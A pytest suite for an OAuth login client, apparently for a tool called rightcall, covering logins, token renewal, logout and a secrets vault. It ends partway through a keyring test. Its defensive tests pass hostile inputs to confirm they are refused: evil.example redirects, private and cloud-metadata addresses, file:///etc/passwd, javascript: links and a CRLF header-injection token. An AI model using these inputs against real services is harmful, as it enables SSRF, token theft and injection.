"""A login at a protected server: got, used, renewed, ended; and each way in which somebody could be led astray."""

import asyncio
import base64
import json
import os
import shlex
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Coroutine, Iterator
from contextlib import suppress
from pathlib import Path
from time import time
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from msgspec.structs import replace

from rightcall.base.http.answers import Answer
from rightcall.errors import IdentityError
from rightcall.identity import flows
from rightcall.identity.discovery import Reach
from rightcall.identity.flows import TokenAccess
from rightcall.identity.logins import (
    Access,
    IssuerChanged,
    LoginNeeded,
    Shown,
    Wish,
    access_of,
    log_in_at,
    log_out,
    party_of,
)
from rightcall.identity.vault import Login, Vault, Want, key_of, system_keyring
from rightcall.policy.settings import Server
from support.authorities import Guarded, Provider, Reply, Said, browse_later, get, guarded
from support.every import every


@pytest.fixture(name="pair")
def _pair() -> Iterator[tuple[Provider, Guarded]]:
    with guarded() as pair:
        yield pair


@pytest.fixture(name="vault")
def _vault(tmp_path: Path) -> Vault:
    return Vault(str(tmp_path / "state" / "logins"), lambda: None)


def server_of(guard: Guarded, **keys: Any) -> Server:
    return replace(Server("notes", url=guard.mcp), **keys)


def enter(server: Server, vault: Vault, wish: Wish | None = None, show: Callable[[str], None] = browse_later) -> Login:
    reach = Reach.of([server.url, *([server.issuer] if server.issuer else [])])
    wish = wish or Wish(seconds=3)
    return asyncio.run(log_in_at(server, wish, reach, vault, Shown(show, lambda _: None)))


def token_for(server: Server, vault: Vault, caller: str = "") -> str:
    headers = asyncio.run(Access(server, caller, vault).headers())
    return dict(headers).get(b"authorization", b"").decode().removeprefix("Bearer ")


def age(vault: Vault) -> None:
    """The access tokens are about to end."""
    for login in vault.logins():
        _, secrets = vault.read(login.key) or pytest.fail("it was not kept")
        vault.write(replace(login, since=1.0, until=time() + 5), secrets)


def refusal(status: int = 401, challenge: str = "Bearer") -> Answer:
    answer = Answer(1000)
    answer.status, answer.headers = status, [(b"www-authenticate", challenge.encode())]
    return answer


# ── the way of the specification ──


@pytest.mark.promise("I-02")
def test_somebody_logs_in_with_a_browser_and_the_server_lets_them_in(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    provider, guard = pair
    login = enter(server_of(guard), vault)
    (asked,), (told,), (about,) = provider.asked("/authorize"), provider.asked("/token"), provider.asked("/register")
    assert (asked.query["code_challenge_method"], asked.query["response_type"]) == ("S256", "code")
    assert asked.query["resource"] == told.form["resource"] == guard.mcp
    assert asked.query["redirect_uri"] == told.form["redirect_uri"] == about.json["redirect_uris"][0]
    assert about.json["application_type"] == "native"
    assert "scope" not in asked.query
    assert provider.access[token_for(server_of(guard), vault)]["resource"] == guard.mcp
    assert (login.provider.issuer, login.resource, login.renewable) == (provider.url, guard.mcp, True)


@pytest.mark.promise("I-02")
def test_scopes_are_those_of_the_challenge_else_of_the_metadata_else_none(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    provider, guard = pair
    guard.metadata = {"scopes_supported": ["a", "b"]}
    assert enter(server_of(guard), vault).scopes == ("a", "b")
    guard.scope = "c"
    assert enter(server_of(guard), vault).scopes == ("c",)
    assert enter(server_of(guard, scopes=("d",)), vault).scopes == ("d", "c")
    assert enter(server_of(guard), vault, Wish(scopes=("e",), seconds=3)).scopes == ("e",)
    provider.metadata = {"scopes_supported": ["c", "offline_access"]}
    assert enter(server_of(guard), vault).scopes == ("c", "offline_access")


@pytest.mark.promise("I-02")
def test_a_call_that_wants_more_asks_for_the_union_of_scopes(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    guard.metadata = {"scopes_supported": ["read"]}
    enter(server_of(guard), vault)
    access = Access(server_of(guard), vault=vault)

    async def more() -> None:
        sent = await access.headers()
        await access.refused(refusal(403, 'Bearer error="insufficient_scope", scope="write"'), sent, is_last=False)

    with pytest.raises(LoginNeeded, match=r"scopes write: run `rightcall login notes`"):
        asyncio.run(more())
    assert token_for(server_of(guard), vault) in provider.access  # what it has stays usable
    assert enter(server_of(guard), vault).scopes == ("read", "write")
    assert vault.wants() == []


@pytest.mark.parametrize(("methods", "secret", "told"), [
    (["none"], "", ("registered", "", "")),
    (["client_secret_post"], "s3cret-of-client", ("registered", "s3cret-of-client", "")),
    (["client_secret_basic"], "s3cret-of-client", (None, None, "Basic cmVnaXN0ZXJlZDpzM2NyZXQtb2YtY2xpZW50")),
    (["none"], "s3cret-of-client", ("registered", "", "")),
])  # fmt: skip
def test_a_client_proves_itself_as_was_agreed(
    pair: tuple[Provider, Guarded], vault: Vault, methods: list[str], secret: str, told: tuple[str | None, ...]
) -> None:
    provider, guard = pair
    provider.metadata, provider.secret = {"token_endpoint_auth_methods_supported": methods}, secret
    enter(server_of(guard), vault)
    (asked,) = provider.asked("/token")
    assert (
        asked.form.get("client_id"),
        asked.form.get("client_secret", None if told[1] is None else ""),
        asked.authorization,
    ) == told
    assert provider.asked("/register")[0].json["token_endpoint_auth_method"] == methods[0]


def test_a_client_that_was_registered_by_hand_or_has_a_document_is_not_registered(
    pair: tuple[Provider, Guarded], vault: Vault, monkeypatch: pytest.MonkeyPatch
) -> None:
    provider, guard = pair
    monkeypatch.setenv("NOTES_SECRET", "given-secret")
    enter(server_of(guard, client_id="mine", client_secret_env="NOTES_SECRET", issuer=provider.url), vault)
    assert provider.asked("/token")[-1].authorization == "Basic bWluZTpnaXZlbi1zZWNyZXQ="
    provider.metadata = {"client_id_metadata_document_supported": True}
    document = "https://client.example/rightcall.json"
    enter(server_of(guard, client_id=document), vault)
    assert provider.asked("/authorize")[-1].query["client_id"] == document
    assert provider.asked("/register") == []
    provider.metadata = {}
    enter(server_of(guard, client_id=document), vault)
    assert len(provider.asked("/register")) == 1


def test_a_provider_that_registers_nobody_needs_a_client_id(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    provider.metadata = {"registration_endpoint": None}
    with pytest.raises(IdentityError, match="client_id into the policy"):
        enter(server_of(guard), vault)


def test_somebody_without_a_browser_types_a_code(
    pair: tuple[Provider, Guarded], vault: Vault, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(flows, "_SHORTEST_POLL", 0.01)
    provider, guard = pair
    provider.pending = 1
    shown: list[Any] = []
    reach = Reach.of([guard.mcp])
    server = server_of(guard)
    asyncio.run(log_in_at(server, Wish(device=True), reach, vault, Shown(lambda _: None, shown.append)))
    assert (shown[0].code, shown[0].link) == ("WDJB-MJHT", f"{provider.url}/activate")
    assert token_for(server, vault) in provider.access
    assert len(provider.asked("/token")) == 2
    for link in ("http://login.example/activate", "https://10.0.0.7/activate", "javascript:alert(1)", ""):
        code = {"device_code": "d", "user_code": "AB", "verification_uri": link}
        provider.overrides["/device"] = (200, {}, code)
        with pytest.raises(IdentityError):
            asyncio.run(log_in_at(server, Wish(device=True), reach, vault, Shown(lambda _: None, shown.append)))
    assert len(shown) == 1
    provider.metadata = {"device_authorization_endpoint": None}
    with pytest.raises(IdentityError, match="without --device"):
        asyncio.run(log_in_at(server, Wish(device=True), reach, vault, Shown(lambda _: None, shown.append)))


def test_a_server_of_the_revision_2025_03_26_is_its_own_provider(vault: Vault) -> None:
    with guarded() as (provider, guard):
        provider.overrides["/.well-known/oauth-authorization-server"] = (404, {}, {})
        provider.overrides["/mcp"] = (401, {"www-authenticate": "Bearer"}, {})
        provider.redirected = {"iss": None}
        server = server_of(guard, url=f"{provider.url}/mcp")
        login = enter(server, vault)
        assert (login.provider.is_told, login.provider.token_endpoint) == (False, f"{provider.url}/token")
        assert "resource" not in provider.asked("/token")[0].form
        assert token_for(server, vault) in provider.access


def test_a_server_that_asks_for_no_login_gets_none(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    _, guard = pair
    guard.overrides["/mcp"] = (200, {}, {"jsonrpc": "2.0", "id": 1, "result": {}})
    guard.overrides["/.well-known/oauth-protected-resource/mcp"] = (404, {}, {})
    with pytest.raises(IdentityError, match="asks for no login"):
        enter(server_of(guard), vault)
    assert token_for(server_of(guard), vault) == ""


# ── led astray ──


def refused(
    pair: tuple[Provider, Guarded], vault: Vault, match: str, show: Callable[[str], None] = browse_later
) -> None:
    """Nobody is logged in, and no code was ever traded."""
    provider, guard = pair
    with pytest.raises(IdentityError, match=match):
        enter(server_of(guard), vault, show=show)
    assert (provider.asked("/token"), vault.logins()) == ([], [])


@pytest.mark.promise("I-02")
@pytest.mark.parametrize("methods", [None, [], ["plain"], "S256"])
def test_a_provider_without_pkce_is_refused_before_anybody_logs_in(
    pair: tuple[Provider, Guarded], vault: Vault, methods: object
) -> None:
    pair[0].metadata = {"code_challenge_methods_supported": methods}
    refused(pair, vault, "S256")
    assert pair[0].asked("/authorize") == []


@pytest.mark.promise("I-02")
@pytest.mark.parametrize("iss", ["https://honest.example", "{}/", "{}/tenant", "", None])
def test_an_answer_of_another_provider_is_a_mix_up(
    pair: tuple[Provider, Guarded], vault: Vault, iss: str | None
) -> None:
    pair[0].redirected = {"iss": iss and iss.replace("{}", pair[0].url)}
    refused(pair, vault, "mixed in")


@pytest.mark.promise("I-02")
def test_a_wrong_issuer_in_the_answer_counts_also_where_none_was_announced(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    pair[0].metadata = {"authorization_response_iss_parameter_supported": None}
    pair[0].redirected = {"iss": "https://honest.example"}
    refused(pair, vault, "mixed in")
    pair[0].redirected = {"iss": None}
    assert enter(server_of(pair[1]), vault).provider.issuer == pair[0].url


@pytest.mark.promise("I-02")
@pytest.mark.parametrize("state", ["wrong", "", None])
def test_an_answer_without_our_state_is_not_taken(
    pair: tuple[Provider, Guarded], vault: Vault, state: str | None
) -> None:
    provider, guard = pair
    provider.redirected = {"state": state}
    with pytest.raises(IdentityError, match="nobody logged in"):
        enter(server_of(guard), vault, Wish(seconds=0.5))
    assert provider.asked("/token") == []


@pytest.mark.promise("I-02")
def test_an_answer_counts_once_and_only_on_its_own_page(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    seen: list[tuple[int, str]] = []

    def show(link: str) -> None:
        def visit() -> None:
            back = get(link)[1]
            page, _, query = back.partition("?")
            odd = f"{page}/x?{query}", f"{page}?{query}&code=other", f"{page}?code=stolen&state=x", page
            seen.extend((answer[0], answer[2]) for answer in map(get, (*odd, back)))

        threading.Thread(target=visit, daemon=True).start()

    enter(server_of(guard), vault, show=show)
    assert [status for status, _ in seen[:4]] == [400] * 4
    assert len(provider.asked("/token")) == 1
    assert not any("stolen" in page or "other" in page for _, page in seen)


@pytest.mark.promise("I-02")
def test_a_redirect_that_is_replayed_is_not_taken() -> None:
    async def main() -> list[int]:
        redirect = flows.Redirect()
        await redirect.open()
        back = f"{redirect.uri}?code=first&state={redirect.state}"
        found = [(await asyncio.to_thread(get, one))[0] for one in (back, back.replace("first", "second"))]
        assert (await redirect.answer(1))["code"] == "first"
        await redirect.aclose()
        return found

    assert asyncio.run(main()) == [200, 400]


@pytest.mark.promise("I-02")
def test_a_code_is_traded_with_its_verifier_and_a_second_time_is_refused(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    (first,) = provider.asked("/token")
    assert provider._token(first)[0] == 400
    links: list[str] = []

    def show(link: str) -> None:
        links.append(link)
        browse_later(link)

    enter(server_of(guard), vault, show=show)
    enter(server_of(guard), vault, show=show)
    asked = [parse_qs(urlsplit(link).query) for link in links]
    assert asked[0]["state"] != asked[1]["state"]
    assert asked[0]["code_challenge"] != asked[1]["code_challenge"]


@pytest.mark.promise("I-02")
def test_a_person_who_says_no_is_not_logged_in_and_words_of_the_provider_are_not_repeated(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    provider, guard = pair
    provider.redirected = {"code": None, "error": "access_denied", "error_description": "<script>geheim"}
    with pytest.raises(IdentityError, match=r"did not log you in \(access_denied\)") as caught:
        enter(server_of(guard), vault)
    assert "geheim" not in str(caught.value)


@pytest.mark.promise("I-01", "I-02")
@pytest.mark.parametrize(
    "document",
    [
        {"resource": "https://evil.example/mcp"},
        {"resource": None},
        {"authorization_servers": []},
        {"authorization_servers": None},
        {"authorization_servers": ["http://10.0.0.7"]},
        {"authorization_servers": ["https://169.254.169.254"]},
        {"authorization_servers": ["https://192.168.1.1/"]},
        {"authorization_servers": ["file:///etc/passwd"]},
        {"authorization_servers": ["http://login.example"]},
        {"authorization_servers": "https://login.example"},
        {"authorization_servers": ["https://user:pw@login.example"]},
        {"authorization_servers": ["https://login.example?x=1"]},
    ],
)
def test_metadata_that_leads_elsewhere_is_refused(
    pair: tuple[Provider, Guarded], vault: Vault, document: dict[str, Any]
) -> None:
    pair[1].metadata = document
    refused(pair, vault, ".")
    assert pair[0].said == []


@pytest.mark.promise("I-01", "I-02")
@pytest.mark.parametrize(
    "document",
    [
        {"issuer": "https://evil.example"},
        {"issuer": None},
        {"authorization_endpoint": "http://evil.example/a"},
        {"authorization_endpoint": "javascript:alert(1)"},
        {"authorization_endpoint": None},
        {"authorization_endpoint": "https://10.0.0.7/authorize"},
        {"authorization_endpoint": "https://169.254.169.254/authorize"},
        {"authorization_endpoint": "https://login.example/a?redirect_uri=https://evil.example"},
        {"authorization_endpoint": "https://login.example/a?client_id=theirs&code_challenge=x"},
        {"registration_endpoint": "https://10.0.0.7/register"},
        {"registration_endpoint": "http://login.example/register"},
        {"token_endpoint": "http://login.example/token"},
    ],
)
def test_a_provider_whose_document_leads_elsewhere_is_refused(
    pair: tuple[Provider, Guarded], vault: Vault, document: dict[str, Any]
) -> None:
    pair[0].metadata = document
    refused(pair, vault, ".", show=lambda _: pytest.fail("a person was sent there"))


@pytest.mark.promise("I-01", "I-03")
def test_a_code_is_not_sent_into_a_private_network(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    provider.metadata = {"token_endpoint": "https://10.0.0.7/token"}
    with pytest.raises(IdentityError, match="not a public internet address"):
        enter(server_of(guard), vault)
    assert vault.logins() == []


@pytest.mark.promise("I-01", "I-03")
@pytest.mark.parametrize("path", ["/token", "/register", "/.well-known/oauth-authorization-server"])
def test_redirects_of_a_provider_are_not_followed(pair: tuple[Provider, Guarded], vault: Vault, path: str) -> None:
    provider, guard = pair
    with guarded() as (other, _):
        provider.overrides[path] = (307, {"location": f"{other.url}{path}"}, None)
        with pytest.raises(IdentityError):
            enter(server_of(guard), vault)
        assert (other.said, vault.logins()) == ([], [])


@pytest.mark.promise("I-03")
@pytest.mark.parametrize(
    "granted",
    [
        {"access_token": "a\r\nx-evil: 1"},
        {"access_token": "a b"},
        {"access_token": ""},
        {"access_token": None},
        {"access_token": 5},
        {"access_token": "é"},
        {"token_type": "mac"},
        {"token_type": None},
        {"refresh_token": "a\nb"},
        {"access_token": "x" * 20_000},
    ],
)
def test_a_token_that_is_none_is_refused(pair: tuple[Provider, Guarded], vault: Vault, granted: dict[str, Any]) -> None:
    provider, guard = pair
    provider.granted = granted
    with pytest.raises(IdentityError, match=r"gave a token|redirects|larger") as caught:
        enter(server_of(guard), vault)
    assert vault.logins() == []
    assert not any(one in str(caught.value) for one in provider.secrets)


@pytest.mark.promise("I-02")
def test_another_provider_than_at_the_first_login_needs_a_person(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    before = token_for(server_of(guard), vault)
    with guarded() as (other, _):
        guard.metadata = {"authorization_servers": [other.url]}
        with pytest.raises(IssuerChanged, match=f"rightcall login notes --issuer {other.url}"):
            enter(server_of(guard), vault)
        assert (other.said, token_for(server_of(guard), vault)) == ([], before)
        login = enter(server_of(guard), vault, Wish(issuer=other.url, seconds=3))
        assert login.provider.issuer == other.url
        assert {one.json["client_name"] for one in other.asked("/register")} == {
            "RightCall"
        }  # a client of its own there
        with pytest.raises(IdentityError, match=f"does not name {provider.url}"):
            enter(server_of(guard, issuer=provider.url), vault)


@pytest.mark.promise("I-02")
def test_another_provider_needs_a_person_also_at_the_first_login_of_another_caller(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    provider, guard = pair
    server = server_of(guard, per_caller=True)
    enter(server, vault, Wish("ann", seconds=3))
    with guarded() as (other, _):
        guard.metadata = {"authorization_servers": [other.url]}
        with pytest.raises(IssuerChanged, match="rightcall login notes --as ben --issuer"):
            enter(server, vault, Wish("ben", seconds=3))
        assert other.said == []
        guard.metadata = {"authorization_servers": [other.url, provider.url]}
        assert enter(server, vault, Wish("ben", seconds=3)).provider.issuer == provider.url


@pytest.mark.promise("I-02")
def test_a_renewal_goes_to_who_gave_the_login_whatever_the_server_says_by_then(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    age(vault)
    with guarded() as (other, _):
        guard.metadata = {"authorization_servers": [other.url]}
        assert token_for(server_of(guard), vault) in provider.access
        assert other.said == []
    assert provider.asked("/token")[-1].form["grant_type"] == "refresh_token"


# ── using it ──


@pytest.mark.promise("I-03")
def test_nothing_is_given_to_another_server_or_for_another_caller(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    _, guard = pair
    enter(server_of(guard), vault)
    assert token_for(replace(server_of(guard), url=f"{guard.url}/other"), vault) == ""
    assert token_for(replace(server_of(guard), url="https://evil.example/mcp"), vault) == ""
    own = server_of(guard, per_caller=True)
    with pytest.raises(LoginNeeded, match="--as ann"):
        token_for(own, vault, "ann")
    enter(own, vault, Wish(caller="ann", seconds=3))
    assert token_for(own, vault, "ann") != token_for(server_of(guard), vault)
    for caller in ("bob", ""):
        with pytest.raises(LoginNeeded):
            token_for(own, vault, caller)


@pytest.mark.promise("I-03")
def test_a_login_for_another_resource_is_not_used(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    _, guard = pair
    login = enter(server_of(guard), vault)
    _, secrets = vault.read(login.key) or pytest.fail("it was not kept")
    vault.write(replace(login, resource="https://elsewhere.example/mcp"), secrets)
    with pytest.raises(LoginNeeded):
        token_for(server_of(guard), vault)


@pytest.mark.promise("I-03")
def test_a_login_that_has_ended_says_what_to_run_and_sends_nothing(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    provider, guard = pair
    provider.granted = {"refresh_token": None}
    login = enter(server_of(guard), vault)
    _, secrets = vault.read(login.key) or pytest.fail("it was not kept")
    vault.write(replace(login, until=1.0), secrets)
    with pytest.raises(LoginNeeded, match=r"has expired: run `rightcall login notes`$"):
        token_for(server_of(guard), vault)
    assert [one.reason for one in vault.wants()] == ["expired"]


@pytest.mark.promise("I-03")
def test_a_refresh_token_that_is_taken_no_longer_ends_the_login_and_keeps_who_gave_it(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    age(vault)
    provider.refresh.clear()
    with pytest.raises(LoginNeeded, match="has expired"):
        token_for(server_of(guard), vault)
    with pytest.raises(LoginNeeded, match="has expired"):
        token_for(server_of(guard), vault)
    assert len(provider.asked("/token")) == 2  # it is not asked again
    (login,) = vault.logins()
    assert (login.is_over, login.provider.issuer) == (True, provider.url)


def test_a_provider_that_is_away_ends_nothing(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    age(vault)
    provider.overrides["/token"] = (503, {}, {})
    with pytest.raises(IdentityError, match="status 503"):
        token_for(server_of(guard), vault)
    provider.overrides.clear()
    assert token_for(server_of(guard), vault) in provider.access


@pytest.mark.promise("I-04")
def test_a_refresh_token_is_used_once_however_many_need_it(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    age(vault)

    async def many() -> set[bytes]:
        others = [Access(server_of(guard), vault=Vault(vault.folder, lambda: None)) for _ in range(8)]
        found = await asyncio.gather(*(one.headers() for one in others))
        return {dict(one)[b"authorization"] for one in found}

    assert len(asyncio.run(many())) == 1
    assert [one.form["grant_type"] for one in provider.asked("/token")] == ["authorization_code", "refresh_token"]


@pytest.mark.promise("I-04")
def test_several_processes_refresh_one_login_once(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    age(vault)
    program = (
        "import asyncio, sys\nfrom rightcall.identity.logins import Access\n"
        "from rightcall.identity.vault import Vault\nfrom rightcall.policy.settings import Server\nsys.stdin.read()\n"
        "access = Access(Server('notes', url=sys.argv[1]), vault=Vault(sys.argv[2], lambda: None))\n"
        "print(dict(asyncio.run(access.headers()))[b'authorization'].decode())\n"
    )
    command = [sys.executable, "-c", program, guard.mcp, vault.folder]
    pipe = subprocess.PIPE
    started = [subprocess.Popen(command, stdin=pipe, stdout=pipe, text=True) for _ in range(3)]
    for process in started:  # all of them are ready before the first may go on
        assert process.stdin is not None
        process.stdin.close()
        process.stdin = None
    printed = {process.communicate(timeout=20)[0] for process in started}
    assert len(printed) == 1
    assert next(iter(printed)).strip().removeprefix("Bearer ") in provider.access
    assert [one.form["grant_type"] for one in provider.asked("/token")] == ["authorization_code", "refresh_token"]


@pytest.mark.promise("I-04")
def test_a_refresh_that_nobody_waits_for_any_more_is_kept(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    age(vault)
    going = threading.Event()
    entered = threading.Event()

    def slow(said: Said) -> Reply:
        entered.set()
        going.wait(5)
        return provider._token(said)

    provider.overrides["/token"] = slow

    async def hurried() -> None:
        task = asyncio.ensure_future(Access(server_of(guard), vault=vault).headers())
        await asyncio.to_thread(entered.wait, 5)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        going.set()
        async with vault.held(key_of(guard.mcp, "")):  # which the refresh lets go of when it is kept
            pass

    asyncio.run(hurried())
    provider.overrides.clear()
    assert token_for(server_of(guard), vault) in provider.access
    assert len(provider.asked("/token")) == 2


@pytest.mark.promise("I-03")
def test_a_login_that_another_process_ended_during_a_refresh_is_not_used_again(
    pair: tuple[Provider, Guarded], vault: Vault
) -> None:
    _, guard = pair
    login = enter(server_of(guard), vault)
    access = Access(server_of(guard), vault=vault)

    async def ended_meanwhile() -> None:
        sent = await access.headers()
        async with vault.held(login.key):
            refused = asyncio.ensure_future(access.refused(refusal(), sent, is_last=False))
            while len(asyncio.all_tasks()) < 3:  # until the refresh waits for the lock
                await asyncio.sleep(0)
            vault.remove(login.key)
        with pytest.raises(LoginNeeded):
            await refused
        with pytest.raises(LoginNeeded):
            await access.headers()

    asyncio.run(ended_meanwhile())


def test_logging_out_takes_the_tokens_back_and_forgets_them(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    login, taken = asyncio.run(log_out(server_of(guard), "", vault)) or pytest.fail("there was no login")
    assert (login.server, taken, provider.access, provider.refresh) == ("notes", True, {}, {})
    assert (vault.logins(), asyncio.run(log_out(server_of(guard), "", vault))) == ([], None)
    left = {one.rpartition(".")[2] for one in os.listdir(vault.folder)}
    assert left == {"lock", "pin"}


@pytest.mark.promise("I-02")
def test_a_logout_does_not_let_a_server_change_its_mind(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    server = server_of(guard)
    enter(server, vault)
    asyncio.run(log_out(server, "", vault))
    with guarded() as (other, _):
        guard.metadata = {"authorization_servers": [other.url]}
        with pytest.raises(IssuerChanged):
            enter(server, vault)
        assert other.said == []
        vault.forget_issuer(server.url)
        assert enter(server, vault).provider.issuer == other.url
        guard.metadata = {}
        with pytest.raises(IssuerChanged):
            enter(replace(server, per_caller=True), vault, Wish("ann", seconds=3))
    assert len(provider.asked("/authorize")) == 1


def test_logging_out_takes_back_what_another_process_is_getting(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    login = enter(server_of(guard), vault)

    async def both() -> None:
        async with vault.held(login.key):
            leaving = asyncio.ensure_future(log_out(server_of(guard), "", vault))
            for _ in range(10):
                await asyncio.sleep(0)
            _, secrets = vault.read(login.key) or pytest.fail("it was not kept")
            tokens = await flows.renew(party_of(server_of(guard), login, secrets), secrets.refresh)
            vault.write(login, replace(secrets, access=tokens.access, refresh=tokens.refresh))
        await leaving

    asyncio.run(both())
    assert (provider.refresh, vault.logins()) == ({}, [])


def test_logging_out_forgets_also_where_the_provider_is_away(pair: tuple[Provider, Guarded], vault: Vault) -> None:
    provider, guard = pair
    enter(server_of(guard), vault)
    provider.overrides["/revoke"] = (500, {}, {})
    found = asyncio.run(log_out(server_of(guard), "", vault))
    assert found is not None
    assert (found[1], vault.logins()) == (False, [])


# ── machines ──


def test_a_machine_logs_in_by_itself_and_again_when_its_token_ends(
    pair: tuple[Provider, Guarded], vault: Vault, monkeypatch: pytest.MonkeyPatch
) -> None:
    provider, guard = pair
    monkeypatch.setenv("NOTES_SECRET", "given-secret")
    unnamed = server_of(guard, login="machine", client_id="robot", client_secret_env="NOTES_SECRET")
    server = replace(unnamed, issuer=provider.url)
    first = token_for(server, vault)
    assert token_for(server, vault) == first
    age(vault)
    second = token_for(server, vault)
    assert first != second
    assert [one.form["grant_type"] for one in provider.asked("/token")] == ["client_credentials"] * 2
    assert "given-secret" not in next(iter(Path(vault.folder).glob("*.json"))).read_text(encoding="utf-8")
    with guarded() as (other, _):
        guard.metadata = {"authorization_servers": [other.url]}
        assert token_for(unnamed, vault) in provider.access
        assert other.said == []


def test_a_machine_signs_with_its_key(pair: tuple[Provider, Guarded], vault: Vault, tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from joserfc import jwt
    from joserfc.jwk import ECKey

    provider, guard = pair
    own = ec.generate_private_key(ec.SECP256R1())
    form = serialization.PrivateFormat.PKCS8
    pem = own.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption())
    (tmp_path / "key.pem").write_bytes(pem)
    server = server_of(guard, login="machine", client_id="robot", private_key=str(tmp_path / "key.pem"))
    assert token_for(server, vault) in provider.access
    form_sent = provider.asked("/token")[0].form
    claims = jwt.decode(form_sent["client_assertion"], ECKey.import_key(pem), algorithms=["ES256"]).claims
    assert (claims["iss"], claims["sub"], claims["aud"]) == ("robot", "robot", provider.url)
    assert not any("PRIVATE" in one.read_text(encoding="utf-8") for one in Path(vault.folder).glob("*.json"))


# ── tokens that the policy brings ──


def test_a_token_comes_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    server = Server("notes", url="https://mcp.example/", token_env="NOTES_TOKEN")
    access = access_of(server)
    assert isinstance(access, TokenAccess)
    with pytest.raises(IdentityError, match="NOTES_TOKEN is not set"):
        asyncio.run(access.headers())
    monkeypatch.setenv("NOTES_TOKEN", "from-the-environment")
    sent = asyncio.run(access.headers())
    assert sent == [(b"authorization", b"Bearer from-the-environment")]
    with pytest.raises(IdentityError, match="does not accept the token of") as caught:
        asyncio.run(access.refused(refusal(), sent, is_last=False))
    assert "from-the-environment" not in str(caught.value)
    monkeypatch.setenv("NOTES_TOKEN", "two\nlines")
    with pytest.raises(IdentityError, match="one line of ASCII"):
        asyncio.run(access.headers())


def test_a_program_prints_a_token_which_is_kept_until_it_ends_or_is_refused(tmp_path: Path) -> None:
    count = tmp_path / "count"
    code = (
        f"import pathlib, json; p = pathlib.Path({str(count)!r}); n = int(p.read_text() or 0) + 1 if p.exists() else 1;"
        "p.write_text(str(n)); text = json.dumps({'access_token': f'printed-{n}', 'expires_in': 3600});"
        "print(text[:9], end='', flush=True); __import__('time').sleep(0.02); print(text[9:])"
    )
    server = Server("notes", url="https://mcp.example/", token_command=(sys.executable, "-c", code))

    async def used() -> list[bytes]:
        access = TokenAccess(server)
        sent = [await access.headers(), await access.headers()]
        assert await access.refused(refusal(), sent[1], is_last=False)
        return [one[0][1] for one in [*sent, await access.headers()]]

    assert asyncio.run(used()) == [b"Bearer printed-1", b"Bearer printed-1", b"Bearer printed-2"]


@every(("command", "told"), [
    (("/no/such/program",), "cannot be started"),
    ((sys.executable, "-c", "print('geheim'); raise SystemExit(3)"), "exit code 3"),
    ((sys.executable, "-c", "print('{\"geheim\": 1}')"), "without an access_token"),
    ((sys.executable, "-c", "while True: print('geheim' * 1000)"), "more than 50,000 bytes"),
    ((sys.executable, "-c", "print('geheim\\ngeheim')"), "one line of ASCII"),
])  # fmt: skip
def test_a_program_that_prints_no_token_is_told_without_its_words(command: tuple[str, ...], told: str) -> None:
    access = TokenAccess(Server("notes", url="https://mcp.example/", token_command=command))
    with pytest.raises(IdentityError, match=told) as caught:
        asyncio.run(access.headers())
    assert "geheim" not in str(caught.value)


@pytest.mark.promise("I-03")
def test_a_token_is_not_sent_in_the_clear() -> None:
    for keys in ({"token_env": "X"}, {"scopes": ("a",)}):
        with pytest.raises(IdentityError, match="https:// alone"):
            access_of(replace(Server("notes", url="http://mcp.example/"), **keys))


# ── the vault ──


def test_what_nobody_has_wanted_for_a_month_is_forgotten(vault: Vault) -> None:
    url = "https://mcp.example/mcp"
    vault.note_want(Want(server="old", url=url, at=time() - 31 * 86_400))
    vault.note_want(Want(server="new", url=f"{url}2", at=time()))
    assert [one.server for one in vault.wants()] == ["new"]
    assert vault.want(key_of(url, "")) is None


class Ring:
    """A keyring in memory; `most` is the longest that it takes."""

    def __init__(self, most: int = 100_000) -> None:
        self.kept: dict[tuple[str, str], str] = {}
        self._most = most

    def get_password(self, service: str, username: str) -> str | None:
        return self.kept.get((service, username))

    def set_password(self, service: str, username: str, password: str) -> None:
        if len(password) > self._most:
            raise RuntimeError(password)
        self.kept[service, username] = password

    def delete_password(self, service: str, username: str) -> None:
        del self.kept[service, username]


@pytest.mark.promise("I-04")
def test_secrets_are_in_the_keyring_where_there_is_one(pair: tuple[Provider, Guarded], tmp_path: Path) -> None:
    provider, guard = pair
    ring = Ring()
    vault = Vault(str(tmp_path / "state" / "logins"), lambda: ring)
